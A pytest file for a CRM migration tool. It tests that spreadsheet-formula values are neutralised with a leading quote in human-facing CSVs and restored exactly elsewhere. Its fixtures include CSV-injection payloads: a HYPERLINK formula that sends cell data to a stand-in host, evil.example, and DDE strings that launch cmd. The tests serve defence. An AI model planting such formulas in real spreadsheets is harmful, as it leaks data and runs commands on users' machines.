"""Hostile input: values a spreadsheet would run as formulas (`=`, `+`, `-`, `@`, tab, CR first)
are neutralised in every CSV a person opens (a `'` in front, the OWASP rule), read back exactly
from every CSV crmmigrate reads again, and never changed in Parquet or the target (issue 16)."""

from __future__ import annotations

import csv
import shutil
import sqlite3
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from crmmigrate.cli import app
from crmmigrate.dedupe import read_decisions
from crmmigrate.scaffold import init_project
from crmmigrate.spreadsheet import neutralise, read_csv, restore, write_csv
from crmmigrate.staging import read_staged

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"

ROUND_TRIPS = [
    ("=1+1", "'=1+1"),
    (HYPERLINK, "'" + HYPERLINK),
    ("+49 30 1234567", "'+49 30 1234567"),
    ("-5", "'-5"),
    (DDE, "'" + DDE),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
    ("'=already quoted", "''=already quoted"),  # one more quote, so the raw value comes back
    ("''+two", "'''+two"),
    ("'plain quote", "'plain quote"),  # no formula after the quotes: as it is
    ("plain", "plain"),
    ("a=b", "a=b"),
    ("", ""),
]


@pytest.mark.parametrize(("raw", "written"), ROUND_TRIPS)
def test_a_cell_is_neutralised_and_restored_exactly(raw: str, written: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"value": [raw], "n": [-5]})
    assert neutralise(frame)["value"].tolist() == [written]
    assert restore(neutralise(frame))["value"].tolist() == [raw]
    assert frame["value"].tolist() == [raw]  # the frame given is not changed

    path = tmp_path / "cells.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle))[1] == [written, "-5"]  # a number stays a number
    assert read_csv(path)["value"].tolist() == [raw]


def test_missing_values_and_numbers_pass_through() -> None:
    frame = pd.DataFrame({"text": ["-1", None, float("nan")], "float": [-1.5, 2.0, -0.1],
                          "int": [-1, 2, -3], "mixed": [-7, "=x", None]})
    out = neutralise(frame)
    assert out["text"].tolist()[0] == "'-1" and out["text"].isna().tolist() == [False, True, True]
    assert out["float"].tolist() == [-1.5, 2.0, -0.1] and out["float"].dtype == frame["float"].dtype
    assert out["int"].tolist() == [-1, 2, -3]
    assert out["mixed"].tolist()[:2] == [-7, "'=x"]


# -- a migration whose legacy data holds formulas ---------------------------------------------------

HEADER = ["LeadNo", "Created", "First", "Last", "Company", "Email", "Phone", "Title", "Status", "Notes"]
LEADS = [
    ["L-1", "2023-01-05", "Anna", "Schmidt", HYPERLINK, "anna@example.com", "+49 30 1234567", "=1+1", "New", "-5"],
    ["L-2", "2023-01-06", "Ben", "Meyer", "Meyer AG", "@example.com", "030 7654321", DDE, "New", "+1"],
    ["-L3", "2023-01-07", "Carl", "", "Carl GmbH", "carl@example.com", "", "CEO", "New", ""],
    ["@L4", "2010-01-01", "Dora", "Old", "Dora Ltd", "dora@example.com", "", "", "New", ""],
    *[[f"L-{n}", "2023-02-01", "Eva", f"Last{n}", f"Company {n}", f"eva{n}@example.com", "", "", "New", ""]
      for n in range(5, 15)],
]
RAGGED = "=cmd|' /C calc'!A0,2023-01-01,too,many,fields,here,a,b,c,d,e,f"
MAPPING = """\
entity: lead
source: {name: leads}
fields:
  id: LeadNo
  created_at: {from: Created, transforms: [{date: {formats: ["%Y-%m-%d"]}}]}
  first_name: First
  last_name: Last
  company: Company
  email: Email
  phone: Phone
  title: Title
  status: Status
custom: [Notes]
where:
  - {name: since 2015, field: created_at, op: ">=", value: "2015-01-01"}
"""


def _write_leads(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "leads.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(LEADS[:3])
        handle.write(RAGGED + "\r\n")
        writer.writerows(LEADS[3:])
    (folder / "leads.yaml").write_text(MAPPING, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def leads_run(tmp_path_factory) -> Path:
    """One run of a migration of leads.csv into SQLite; its run directory."""
    project = tmp_path_factory.mktemp("formulas") / "project"
    init_project(project)
    _write_leads(project / "legacy")
    config = (project / "migration.yaml").read_text(encoding="utf-8").split("sources:")[0]
    (project / "migration.yaml").write_text(
        config + "sources:\n  - location: legacy/leads.csv\n    mapping: legacy/leads.yaml\n", encoding="utf-8")
    result = runner.invoke(app, ["run", str(project / "migration.yaml"), "--allow-failing"])
    assert result.exit_code == 0, result.output
    (run_dir,) = (project / "runs").iterdir()
    return run_dir


def rows(path: Path) -> list[dict[str, str]]:
    """A CSV as a person's spreadsheet reads it: the cells as written."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_extract_rejects_neutralise_the_raw_line(leads_run: Path) -> None:
    (reject,) = rows(leads_run / "extracted" / "leads.rejects.csv")
    assert reject["raw"] == "'" + RAGGED
    assert read_csv(leads_run / "extracted" / "leads.rejects.csv")["raw"].tolist() == [RAGGED]


def test_filtered_records_neutralise_their_legacy_id(leads_run: Path) -> None:
    path = leads_run / "mapped" / "leads.filtered.csv"
    (filtered,) = rows(path)
    assert "'@L4" in filtered.values()
    assert "@L4" in read_csv(path).iloc[0].tolist()


def test_load_rejects_neutralise_the_legacy_id(leads_run: Path) -> None:
    path = leads_run / "load.rejects.csv"
    rejected = {r["legacy_id"]: r for r in rows(path)}
    assert "'-L3" in rejected and "-L3" not in rejected
    assert "-L3" in read_csv(path)["legacy_id"].tolist()


def test_clean_changes_neutralise_before_and_after(leads_run: Path) -> None:
    path = leads_run / "clean" / "changes.csv"
    phone = [r for r in rows(path) if r["field"] == "phone" and r["id"] == "L-1"]
    assert [(r["before"], r["after"]) for r in phone] == [("'+49 30 1234567", "'+49301234567")]
    raw = read_csv(path)
    assert raw.loc[(raw["field"] == "phone") & (raw["id"] == "L-1"), "after"].tolist() == ["+49301234567"]


def test_clean_notes_neutralise_every_cell(leads_run: Path) -> None:
    path = leads_run / "clean" / "notes.csv"
    notes = rows(path)
    written = [cell for note in notes for cell in note.values()]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in written)
    assert read_csv(path).shape[0] == len(notes)


def test_validation_failures_neutralise_the_value(leads_run: Path) -> None:
    path = leads_run / "validation" / "failures.csv"
    email = [r for r in rows(path) if r["field"] == "email" and r["id"] == "L-2"]
    assert [r["value"] for r in email] == ["'@example.com"]
    assert "@example.com" in read_csv(path)["value"].tolist()


def test_the_target_gets_every_value_as_it_was(leads_run: Path) -> None:
    target = leads_run.parent.parent / "migration.db"
    with sqlite3.connect(target) as connection:
        loaded = dict(connection.execute("select legacy_id, title from lead where legacy_id in ('L-1', 'L-2')"))
        company = connection.execute("select company, phone, custom from lead where legacy_id = 'L-1'").fetchone()
    assert loaded == {"L-1": "=1+1", "L-2": DDE}
    assert company[0] == HYPERLINK and company[1] == "+49301234567"
    assert '"-5"' in company[2]


# -- staged CSV: written for people, read back exactly ------------------------------------------


def test_a_staged_csv_is_neutralised_and_its_next_stage_reads_the_raw_values(tmp_path: Path) -> None:
    source = _write_leads(tmp_path / "legacy")
    mapped = tmp_path / "mapped.csv"
    result = runner.invoke(app, ["map", str(source), "-m", str(tmp_path / "legacy" / "leads.yaml"), "-o", str(mapped)])
    assert result.exit_code == 0, result.output
    written = {r["id"]: r for r in rows(mapped)}
    assert written["L-1"]["company"] == "'" + HYPERLINK and written["L-1"]["phone"] == "'+49 30 1234567"
    assert written["'-L3"]["last_name"] == ""
    staged = read_staged(mapped).set_index("id")
    assert staged.loc["L-1", "company"] == HYPERLINK and staged.loc["L-2", "title"] == DDE
    assert "-L3" in staged.index

    # Parquet is a machine file: never neutralised, even when it comes from a neutralised CSV.
    cleaned = tmp_path / "cleaned.parquet"
    result = runner.invoke(app, ["clean", str(mapped), "-o", str(cleaned)])
    assert result.exit_code == 0, result.output
    table = pq.read_table(cleaned).to_pandas().set_index("id")
    assert table.loc["L-1", "title"] == "=1+1" and table.loc["L-1", "phone"] == "+49301234567"
    assert "-L3" in table.index

    target = tmp_path / "crm.db"
    result = runner.invoke(app, ["load", str(mapped), "-t", f"sqlite:///{target}", "--allow-failing",
                                 "--rejects", str(tmp_path / "load.rejects.csv")])
    assert result.exit_code == 0, result.output
    with sqlite3.connect(target) as connection:
        assert connection.execute("select company, phone from lead where legacy_id = 'L-1'").fetchone() == (
            HYPERLINK, "+49 30 1234567")


# -- dedupe: pairs and review for people, decisions read back -----------------------------------


@pytest.fixture(scope="module")
def sample_run(tmp_path_factory) -> Path:
    project = tmp_path_factory.mktemp("samples") / "project"
    init_project(project)
    result = runner.invoke(app, ["run", str(project / "migration.yaml"), "--allow-failing"])
    assert result.exit_code == 0, result.output
    (run_dir,) = (project / "runs").iterdir()
    return run_dir


@pytest.mark.parametrize("name", ["pairs", "review"])
def test_dedupe_pairs_and_review_neutralise_phones(sample_run: Path, name: str) -> None:
    path = sample_run / "dedupe" / f"{name}.csv"
    written = rows(path)
    phones = [r["phone_a"] for r in written if r["phone_a"]]
    assert any(p.startswith("'+") for p in phones)
    assert not any(cell[:1] in ("=", "+", "-", "@") for r in written for cell in r.values())
    assert read_csv(path)["phone_a"].tolist() == [p[1:] if p.startswith("'+") else p for p in
                                                 (r["phone_a"] for r in written)]


def test_a_review_file_edited_by_a_person_is_read_back_exactly(sample_run: Path, tmp_path: Path) -> None:
    review = tmp_path / "review.csv"
    shutil.copy(sample_run / "dedupe" / "review.csv", review)
    frame = read_csv(review)
    frame.loc[0, ["id_a", "decision"]] = ["=1+1", "merge"]
    frame.loc[1, ["id_b", "decision"]] = ["-42", "apart"]
    write_csv(frame, review)
    assert "'=1+1" in review.read_text(encoding="utf-8") and "'-42" in review.read_text(encoding="utf-8")
    decided = read_decisions(review)
    assert sorted(decided["decision"]) == ["apart", "merge"]
    assert set(decided["id_a"]) | set(decided["id_b"]) >= {"=1+1", "-42"}


def test_dedupe_review_appends_decisions_that_are_read_back_exactly(tmp_path: Path) -> None:
    columns = ["entity", "source_a", "id_a", "source_b", "id_b", "probability", "band", "decision", "name",
               "name_a", "name_b"]
    pairs = pd.DataFrame([["contact", "=crm", "-7", "+reps", "@9", "0.9", "review", "", "exact", HYPERLINK, "-x"]],
                         columns=columns)
    review = tmp_path / "review.csv"
    write_csv(pairs, review)
    decisions = tmp_path / "decisions.csv"
    result = runner.invoke(app, ["dedupe", "review", str(review), "--decisions", str(decisions)], input="m\n")
    assert result.exit_code == 0, result.output
    assert HYPERLINK in result.stdout  # shown as it is typed, not as the file spells it
    (written,) = rows(decisions)
    assert [written[k] for k in ("source_a", "id_a", "source_b", "id_b")] == ["'=crm", "'-7", "'+reps", "'@9"]
    decided = read_decisions(decisions)
    assert decided[["source_a", "id_a", "source_b", "id_b", "decision"]].values.tolist() == [
        ["=crm", "-7", "+reps", "@9", "merge"]]
    # Answered already: a second review finds nothing left to ask.
    again = runner.invoke(app, ["dedupe", "review", str(review), "--decisions", str(decisions)], input="q\n")
    assert again.exit_code == 0 and again.stdout.startswith("0 pair(s) to review (1 decided already)")


def test_a_legacy_header_that_is_a_formula_is_neutralised_and_read_back(tmp_path: Path) -> None:
    source = tmp_path / "export.csv"
    source.write_text(f"id,=Total,-Score\r\n1,{HYPERLINK.replace(',', ';')},-5\r\n", encoding="utf-8")
    staged = tmp_path / "staged.csv"
    result = runner.invoke(app, ["extract", str(source), "-o", str(staged)])
    assert result.exit_code == 0, result.output
    with staged.open(encoding="utf-8", newline="") as handle:
        header, row = list(csv.reader(handle))
    assert header[:3] == ["id", "'=Total", "'-Score"] and row[1:3] == ["'" + HYPERLINK.replace(",", ";"), "'-5"]
    back = read_staged(staged)
    assert back.columns.tolist()[:3] == ["id", "=Total", "-Score"]
    assert back.iloc[0, :3].tolist() == ["1", HYPERLINK.replace(",", ";"), "-5"]

    parquet = tmp_path / "staged.parquet"
    assert runner.invoke(app, ["extract", str(source), "-o", str(parquet)]).exit_code == 0
    assert pq.read_table(parquet).column_names[:3] == ["id", "=Total", "-Score"]
